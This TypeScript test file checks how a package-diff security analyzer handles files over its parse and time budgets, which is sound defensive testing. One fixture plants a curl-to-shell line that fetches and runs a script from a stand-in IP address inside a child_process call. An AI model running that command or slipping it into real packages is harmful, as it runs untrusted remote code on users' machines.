/**
 * Files beyond the parse budget are scanned as text, not parsed, and the budget is itself a finding; an
 * analysis out of time scans the rest as text. Either way the result is a report, never a crash.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { analyze, type Finding } from '../../server/analyzer';
import { BENIGN_INDEX, pkgJson, side } from './fixtures/sides';

const KB = 1024;
const budget = { maxFileBytes: 64 * KB, maxTotalBytes: 256 * KB };
const v = (version: string, files: Record<string, string>) =>
  side({ 'package.json': pkgJson({ version, main: 'index.js' }), 'index.js': BENIGN_INDEX, ...files });
const overBudget = (findings: readonly Finding[]) => findings.filter((f) => f.rule === 'obfuscation/over-parse-budget');

test('a changed file beyond the parse budget is scanned as text and named in a finding; what the text shows is still found', () => {
  const bomb = `${'a;'.repeat(48 * KB)}\nrequire('child_process').execSync('curl -s https://203.0.113.9/p | sh');\n`;
  const report = analyze(v('1.0.0', {}), v('1.0.1', { 'index.js': bomb }), { budget });
  const [finding] = overBudget(report.findings);
  assert.ok(finding, JSON.stringify(report.findings.map((f) => f.rule)));
  assert.equal(finding.file, 'index.js');
  assert.equal(finding.severity, 'medium');
  assert.match(finding.message, /larger than the parse budget/);
  assert.ok(
    report.findings.some((f) => f.rule === 'process/new-child-process' || f.rule === 'process/suspicious-command'),
    'the text scan still sees the child process',
  );
  assert.equal(report.stats.filesOverBudget, 1);
});

test('the budget for one analysis is shared by its files; an unchanged large file is not a finding again', () => {
  const chunk = (n: number) => `module.exports = ${JSON.stringify('x'.repeat(60 * KB))};\n// ${n}\n`;
  const files = Object.fromEntries(Array.from({ length: 6 }, (_, i) => [`lib/f${i}.js`, chunk(i)]));
  const report = analyze(
    v('1.0.0', {}),
    v('1.0.1', {
      ...files,
      'index.js': `${Object.keys(files)
        .map((f) => `require('./${f}');`)
        .join('\n')}\n`,
    }),
    { budget },
  );
  assert.ok(overBudget(report.findings).length >= 1, 'past 256 KB in total, the rest is scanned as text');
  assert.ok(report.stats.filesParsed >= 3, 'the first files are parsed');

  const big = `${'a;'.repeat(48 * KB)}\n`;
  const again = analyze(v('1.0.0', { 'index.js': big }), v('1.0.1', { 'index.js': big, 'README.md': 'new docs' }), { budget });
  assert.deepEqual(overBudget(again.findings), []);
});

test('an analysis out of time scans what is left as text and says so', () => {
  const report = analyze(v('1.0.0', {}), v('1.0.1', { 'index.js': "require('child_process').exec('id');\n" }), {
    budget: { ...budget, outOfTime: () => true },
  });
  const [finding] = overBudget(report.findings);
  assert.ok(finding);
  assert.match(finding.message, /time budget/);
  assert.ok(report.findings.some((f) => f.rule.startsWith('process/')));
});
